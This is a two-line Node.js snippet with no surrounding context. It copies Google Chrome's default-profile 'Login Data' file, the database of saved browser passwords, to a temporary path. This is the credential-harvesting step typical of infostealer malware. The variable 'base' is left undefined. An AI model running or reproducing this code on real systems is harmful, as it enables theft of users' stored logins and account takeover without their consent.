const fs = require('fs');
fs.copyFileSync(base + '/Google/Chrome/User Data/Default/Login Data', '/tmp/a');
